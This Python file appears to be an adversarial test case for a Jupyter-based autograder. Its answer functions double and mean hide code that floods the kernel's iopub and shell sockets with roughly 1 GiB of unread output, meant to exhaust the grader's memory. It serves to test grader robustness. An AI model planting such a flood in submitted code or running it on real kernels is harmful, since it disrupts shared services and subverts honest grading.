# ruff: noqa
"""Sends 1 GiB through each of the kernel's sockets while a check waits for an answer and nobody reads them."""

FAMILY = "exhausting"
MAY_PASS = []
MUST_NOT = "What nobody reads waits in the memory of the grader."

# %%
import time

kernel = get_ipython().kernel
parents = {channel: kernel.get_parent(channel) for channel in ("shell", "control")}
identities = kernel._parent_ident.get("shell") or []
shell_stream = getattr(kernel, "shell_stream", None) or kernel.shell_streams[0]


def flood(socket, identity):
    content = {"name": "stdout", "text": "x" * 2**24}
    for _ in range(64):
        try:
            kernel.session.send(socket, "stream", content, parent=parents["shell"], ident=identity)
            time.sleep(0.01)
        except Exception as error:
            print(error)
            break


def double(x):
    flood(kernel.iopub_socket, b"stream")
    return x


def mean(x):
    flood(getattr(shell_stream, "socket", shell_stream), identities)
    return 0.0
